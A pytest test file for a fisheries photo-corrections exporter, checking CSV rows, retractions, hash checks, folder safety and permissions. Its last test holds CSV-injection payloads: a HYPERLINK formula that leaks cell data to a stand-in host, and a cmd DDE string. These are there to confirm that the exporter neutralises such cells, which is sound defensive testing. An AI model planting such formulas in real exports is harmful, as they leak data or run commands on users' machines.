"""``sync.corrections``: the shared writer of confirmed photos and ``corrections.csv``."""

from __future__ import annotations

import csv
import hashlib
import unicodedata
from pathlib import Path

import pytest

from sync.corrections import (
    CORRECTIONS_CSV,
    HEADER,
    PHOTOS_DIR,
    Correction,
    CorrectionsExport,
    CorrectionsExportError,
    species_key,
    stamp_text,
)

JPEG = b"\xff\xd8\xff\xe0 a cod"
WHOLE_PHOTO = {"crop_x": "", "crop_y": "", "crop_w": "", "crop_h": ""}
NO_VERDICT = {"status": "", "status_reason": ""}
PNG = b"\x89PNG\r\n\x1a\n a haddock"


def correction(
    photo: bytes = JPEG,
    *,
    media_type: str = "image/jpeg",
    uid: str = "obs-1",
    trip: str | None = None,
    sha256: str | None = None,
    photo_uid: str | None = None,
    crop: tuple[int, int, int, int] | None = None,
) -> Correction:
    return Correction(
        observation_uid=uid,
        confirmed_species="Gadus morhua",
        photo_uid=photo_uid or f"photo-{uid}",
        media_type=media_type,
        photo_sha256=sha256 or hashlib.sha256(photo).hexdigest(),
        photo=photo,
        observed_at="2026-03-01T08:00:00.000000Z",
        vessel="V-12" if trip else None,
        trip=trip,
        reviewed_by="officer-2",
        pack_version="f4k-2026.03" if uid == "obs-1" else "",
        crop=crop,
        status="no_fish" if uid == "obs-1" else "",
        status_reason="blank, one colour" if uid == "obs-1" else "",
    )


def rows(folder: Path) -> list[dict[str, str]]:
    with (folder / CORRECTIONS_CSV).open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_rows_and_photo_bytes_are_written(tmp_path: Path) -> None:
    folder = tmp_path / "corrections"
    with CorrectionsExport(folder) as export:
        export.add(correction(JPEG, uid="obs-1"))
        export.add(correction(PNG, media_type="image/PNG", uid="obs-2"))
    assert (export.summary.written, export.summary.skipped) == (2, 0)
    with (folder / CORRECTIONS_CSV).open(newline="", encoding="utf-8") as handle:
        assert tuple(next(csv.reader(handle))) == HEADER
    written = rows(folder)
    assert {(row.pop("exported_at"), row.pop("exported_from")) for row in written} == {
        (stamp_text(export.exported_at), "device")
    }
    assert written == [
        {
            "file": f"{PHOTOS_DIR}/photo-obs-1.jpg",
            "confirmed_species": "Gadus morhua",
            "group": "observation:obs-1",
            "observation_uid": "obs-1",
            "reviewed_by": "officer-2",
            "observed_at": "2026-03-01T08:00:00.000000Z",
            "pack_version": "f4k-2026.03",
            **WHOLE_PHOTO,
            "status": "no_fish",
            "status_reason": "blank, one colour",
            "not_a_fish": "",
            "conflicting": "",
            "photo_sha256": hashlib.sha256(JPEG).hexdigest(),
        },
        {
            "file": f"{PHOTOS_DIR}/photo-obs-2.png",
            "confirmed_species": "Gadus morhua",
            "group": "observation:obs-2",
            "observation_uid": "obs-2",
            "reviewed_by": "officer-2",
            "observed_at": "2026-03-01T08:00:00.000000Z",
            "pack_version": "",
            **WHOLE_PHOTO,
            **NO_VERDICT,
            "not_a_fish": "",
            "conflicting": "",
            "photo_sha256": hashlib.sha256(PNG).hexdigest(),
        },
    ]
    assert (folder / PHOTOS_DIR / "photo-obs-1.jpg").read_bytes() == JPEG
    assert (folder / PHOTOS_DIR / "photo-obs-2.png").read_bytes() == PNG


def test_a_retraction_row_names_the_observation_and_writes_no_photo(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    with CorrectionsExport(folder) as export:
        export.retract("obs-9", "officer-3", "2026-03-02T08:00:00.000000Z")
    assert (export.summary.written, export.summary.retracted) == (0, 1)
    [row] = rows(folder)
    assert (row["observation_uid"], row["reviewed_by"], row["not_a_fish"]) == (
        "obs-9",
        "officer-3",
        "1",
    )
    assert (row["file"], row["confirmed_species"], row["group"]) == ("", "", "")
    assert list((folder / PHOTOS_DIR).iterdir()) == []
    assert "1 catch answered not a fish" in "\n".join(export.summary.lines())


def test_the_group_is_the_trip_when_there_is_one_else_the_observation(tmp_path: Path) -> None:
    with CorrectionsExport(tmp_path / "out") as export:
        export.add(correction(uid="obs-1", trip="T-7"))
        export.add(correction(uid="obs-2", trip="T-7"))
        export.add(correction(uid="obs-3"))
    groups = [row["group"] for row in rows(tmp_path / "out")]
    assert groups == ["trip:V-12/T-7", "trip:V-12/T-7", "observation:obs-3"]


def test_an_unknown_media_type_is_skipped_and_counted(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    with CorrectionsExport(folder) as export:
        export.add(correction(uid="obs-1"))
        export.add(correction(b"heif bytes", media_type="image/heic", uid="obs-2"))
    assert (export.summary.written, export.summary.skipped) == (1, 1)
    assert [row["observation_uid"] for row in rows(folder)] == ["obs-1"]
    assert sorted(p.name for p in (folder / PHOTOS_DIR).iterdir()) == ["photo-obs-1.jpg"]
    assert "1 skipped: their photo type cannot be used for training" in list(export.summary.lines())


def test_a_sha256_mismatch_raises_and_leaves_no_csv(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    wrong = hashlib.sha256(JPEG).hexdigest()
    mismatch = "photo-obs-2 does not match its sha256"
    with pytest.raises(CorrectionsExportError, match=mismatch), CorrectionsExport(folder) as export:
        export.add(correction(uid="obs-1"))
        export.add(correction(PNG, uid="obs-2", sha256=wrong))
    assert not folder.exists()  # the folder it created, with the photo written before, is gone


def test_a_folder_that_is_not_empty_is_refused_and_left_alone(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "keep.txt").write_text("mine")
    with pytest.raises(CorrectionsExportError, match="not an empty folder"):
        CorrectionsExport(folder)
    assert [p.name for p in folder.iterdir()] == ["keep.txt"]
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    with pytest.raises(CorrectionsExportError, match="not an empty folder"):
        CorrectionsExport(a_file)


def test_an_empty_existing_folder_is_accepted(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    with CorrectionsExport(tmp_path / "out") as export:
        export.add(correction())
    assert len(rows(tmp_path / "out")) == 1


def test_an_exception_inside_the_with_leaves_the_folder_as_it_was(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()  # the operator's own empty folder stays, empty
    with pytest.raises(RuntimeError, match="cut short"), CorrectionsExport(folder) as export:
        export.add(correction())
        raise RuntimeError("cut short")
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize("existing", [True, False], ids=["own-folder", "created"])
def test_a_csv_that_cannot_be_written_leaves_no_photos(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, existing: bool
) -> None:
    """The disk fills while the CSV, written last, is written: the photos without it are no
    export, so they go too, as the error says ('nothing exported')."""
    folder = tmp_path / "out"
    if existing:
        folder.mkdir()

    def fill_the_disk(export: CorrectionsExport) -> None:
        (folder / f".{CORRECTIONS_CSV}.part").write_text("file,")  # cut short
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(CorrectionsExport, "_write_csv", fill_the_disk)
    with (
        pytest.raises(CorrectionsExportError, match="nothing exported"),
        CorrectionsExport(folder) as export,
    ):
        export.add(correction())
    assert (list(folder.iterdir()) == []) if existing else not folder.exists()


def test_a_photo_passed_twice_is_refused_and_nothing_is_left(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    twice = "photo-obs-1 is passed twice"
    with pytest.raises(CorrectionsExportError, match=twice), CorrectionsExport(folder) as export:
        export.add(correction(uid="obs-1"))
        export.add(correction(uid="obs-1"))
    assert not folder.exists()


def test_two_fish_of_one_photo_are_two_rows_over_one_file(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    with CorrectionsExport(folder) as export:
        export.add(correction(uid="obs-1", photo_uid="deck", crop=(0, 5, 40, 30)))
        export.add(correction(uid="obs-2", photo_uid="deck", crop=(40, 0, 25, 35)))
    assert export.summary.written == 2
    assert [p.name for p in (folder / PHOTOS_DIR).iterdir()] == ["deck.jpg"]
    boxes = [
        (row["file"], row["observation_uid"], *(row[c] for c in WHOLE_PHOTO))
        for row in rows(folder)
    ]
    assert boxes == [
        (f"{PHOTOS_DIR}/deck.jpg", "obs-1", "0", "5", "40", "30"),
        (f"{PHOTOS_DIR}/deck.jpg", "obs-2", "40", "0", "25", "35"),
    ]


def test_one_box_of_a_photo_passed_twice_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    twice = "photo deck is passed twice with the same box"
    with pytest.raises(CorrectionsExportError, match=twice), CorrectionsExport(folder) as export:
        export.add(correction(uid="obs-1", photo_uid="deck", crop=(0, 5, 40, 30)))
        export.add(correction(uid="obs-2", photo_uid="deck", crop=(0, 5, 40, 30)))
    assert not folder.exists()


def test_the_export_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    with CorrectionsExport(folder) as export:
        export.add(correction())
    modes = {
        path.name: path.stat().st_mode & 0o777
        for path in (folder, folder / PHOTOS_DIR, folder / CORRECTIONS_CSV)
    }
    modes["photo"] = (folder / PHOTOS_DIR / "photo-obs-1.jpg").stat().st_mode & 0o777
    assert modes == {"out": 0o700, PHOTOS_DIR: 0o700, CORRECTIONS_CSV: 0o600, "photo": 0o600}


def test_a_correction_without_a_species_is_refused_when_made() -> None:
    with pytest.raises(ValueError, match="obs-9 has no confirmed species"):
        Correction("obs-9", " ", "photo-9", "image/jpeg", "0" * 64, JPEG, "2026-03-01")


def test_two_spellings_of_one_species_agree() -> None:
    assert species_key("  gadus   Morhua ") == species_key("Gadus morhua")
    assert species_key("Gadus morhua") != species_key("Gadus macrocephalus")


def test_a_species_typed_on_a_mac_is_the_one_typed_elsewhere() -> None:
    """macOS may send 'é' decomposed (NFD); two stores' reviewers typed one species."""
    typed_elsewhere = unicodedata.normalize("NFC", "Kérapu")
    assert species_key(unicodedata.normalize("NFD", "kérapu")) == species_key(typed_elsewhere)


def test_the_summary_names_the_next_command(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    with CorrectionsExport(folder) as export:
        export.add(correction())
    assert list(export.summary.lines()) == [
        f"1 confirmed photo written to {folder}",
        f"next: jaga fish export-training-set --corrections {folder}/{CORRECTIONS_CSV}"
        " --species-from PACK --out TRAINING_DIR  (PACK: the species pack the photos were"
        " classified with, so that each species keeps its folder id)",
    ]


# OWASP's CSV injection: a cell beginning with one of these runs as a formula when an
# officer opens the export in a spreadsheet (=HYPERLINK sends data away, =cmd|... runs).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
    """Species, reviewer, vessel, trip and the pack's reason come from people and other
    devices; each is written so that no cell begins a formula, every cell in double quotes
    (a spreadsheet splitting on ';' keeps ``a;=1+1`` one cell)."""
    typed = Correction(
        observation_uid="obs-1",
        confirmed_species='=HYPERLINK("http://evil.test/?"&A1,"Gadus morhua")',
        photo_uid="photo-1",
        media_type="image/jpeg",
        photo_sha256=hashlib.sha256(JPEG).hexdigest(),
        photo=JPEG,
        observed_at="2026-03-01T08:00:00.000000Z",
        vessel="+V-12",
        trip="-7",
        reviewed_by="@SUM(1+1)",
        pack_version="f4k-2026.03",
        status="no_fish",
        status_reason="\tcmd|' /C calc'!A0",
    )
    folder = tmp_path / "corrections"
    with CorrectionsExport(folder) as export:
        export.add(typed)
        export.retract("obs-2", "ana;=1+1", "2026-03-01T08:00:00.000000Z")
    text = (folder / CORRECTIONS_CSV).read_text(encoding="utf-8")
    with (folder / CORRECTIONS_CSV).open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert '"ana;=1+1"' in text
    written = rows(folder)[0]
    assert written["confirmed_species"] == "'" + typed.confirmed_species
    assert (written["reviewed_by"], written["status_reason"]) == (
        "'@SUM(1+1)",
        "'\tcmd|' /C calc'!A0",
    )
